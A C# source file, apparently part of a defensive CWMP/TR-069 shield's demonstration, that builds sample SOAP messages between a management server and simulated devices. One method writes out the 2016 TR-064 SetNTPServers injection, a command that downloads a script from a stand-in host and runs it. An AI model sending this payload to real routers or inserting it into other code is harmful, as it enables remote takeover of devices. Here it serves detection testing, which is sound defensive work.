using System.Security;

namespace CwmpShield.Cli.Demo;

/// <summary>The SOAP bodies that the demonstration's ACS and devices send: plain text, as such software writes them.</summary>
internal static class DemoSoap
{
    /// <summary>Wraps one body entry into an envelope with a cwmp:ID.</summary>
    public static string Envelope(string id, string entry) =>
        $"""
        <?xml version="1.0" encoding="UTF-8"?>
        <soap-env:Envelope xmlns:soap-env="http://schemas.xmlsoap.org/soap/envelope/" xmlns:soap-enc="http://schemas.xmlsoap.org/soap/encoding/" xmlns:xsd="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:cwmp="urn:dslforum-org:cwmp-1-2"><soap-env:Header><cwmp:ID soap-env:mustUnderstand="1">{id}</cwmp:ID></soap-env:Header><soap-env:Body>{entry}</soap-env:Body></soap-env:Envelope>
        """;

    /// <summary>Inform of a device.</summary>
    public static string Inform(string oui, string productClass, string serial, string eventCode, string version) =>
        $"""
        <cwmp:Inform><DeviceId><Manufacturer>Demo Devices</Manufacturer><OUI>{oui}</OUI><ProductClass>{productClass}</ProductClass><SerialNumber>{serial}</SerialNumber></DeviceId><Event soap-enc:arrayType="cwmp:EventStruct[1]"><EventStruct><EventCode>{eventCode}</EventCode><CommandKey></CommandKey></EventStruct></Event><MaxEnvelopes>1</MaxEnvelopes><CurrentTime>2026-11-22T12:00:00Z</CurrentTime><RetryCount>0</RetryCount><ParameterList soap-enc:arrayType="cwmp:ParameterValueStruct[2]">{Value("Device.DeviceInfo.SoftwareVersion", version)}{Value("Device.ManagementServer.ParameterKey", "")}</ParameterList></cwmp:Inform>
        """;

    /// <summary>SetParameterValues of one or more string parameters.</summary>
    public static string Set(params (string Name, string Value)[] parameters) =>
        $"""<cwmp:SetParameterValues><ParameterList soap-enc:arrayType="cwmp:ParameterValueStruct[{parameters.Length}]">{string.Concat(parameters.Select(p => Value(p.Name, p.Value)))}</ParameterList><ParameterKey>demo</ParameterKey></cwmp:SetParameterValues>""";

    /// <summary>GetParameterValues of one name.</summary>
    public static string Get(string name) =>
        $"""<cwmp:GetParameterValues><ParameterNames soap-enc:arrayType="xsd:string[1]"><string>{name}</string></ParameterNames></cwmp:GetParameterValues>""";

    /// <summary>Download of a firmware image.</summary>
    public static string Download(string url) =>
        $"<cwmp:Download><CommandKey>demo</CommandKey><FileType>1 Firmware Upgrade Image</FileType><URL>{SecurityElement.Escape(url)}</URL><Username></Username><Password></Password><FileSize>0</FileSize><TargetFileName></TargetFileName><DelaySeconds>0</DelaySeconds><SuccessURL></SuccessURL><FailureURL></FailureURL></cwmp:Download>";

    /// <summary>What a device says after a download that went well.</summary>
    public static string TransferComplete() =>
        "<cwmp:TransferComplete><CommandKey>demo</CommandKey><FaultStruct><FaultCode>0</FaultCode><FaultString></FaultString></FaultStruct><StartTime>2026-11-22T12:00:00Z</StartTime><CompleteTime>2026-11-22T12:01:00Z</CompleteTime></cwmp:TransferComplete>";

    /// <summary>The TR-064 action that took over 900,000 routers in 2016 (CVE-2016-10372), sent where an RPC belongs.</summary>
    public static string Tr064() =>
        """<u:SetNTPServers xmlns:u="urn:dslforum-org:service:Time:1"><NewNTPServer1>`cd /tmp;wget http://203.0.113.66/1;sh 1`</NewNTPServer1></u:SetNTPServers>""";

    /// <summary>The answer that a device gives to an order of this name.</summary>
    public static string Answer(string rpc) => rpc switch
    {
        "GetParameterValues" => $"""<cwmp:GetParameterValuesResponse><ParameterList soap-enc:arrayType="cwmp:ParameterValueStruct[1]">{Value("Device.DeviceInfo.UpTime", "86400")}</ParameterList></cwmp:GetParameterValuesResponse>""",
        "SetParameterValues" => "<cwmp:SetParameterValuesResponse><Status>0</Status></cwmp:SetParameterValuesResponse>",
        "Download" => "<cwmp:DownloadResponse><Status>1</Status><StartTime>0001-01-01T00:00:00Z</StartTime><CompleteTime>0001-01-01T00:00:00Z</CompleteTime></cwmp:DownloadResponse>",
        _ => $"<cwmp:{rpc}Response></cwmp:{rpc}Response>",
    };

    private static string Value(string name, string value) =>
        $"""<ParameterValueStruct><Name>{name}</Name><Value xsi:type="xsd:string">{SecurityElement.Escape(value)}</Value></ParameterValueStruct>""";
}
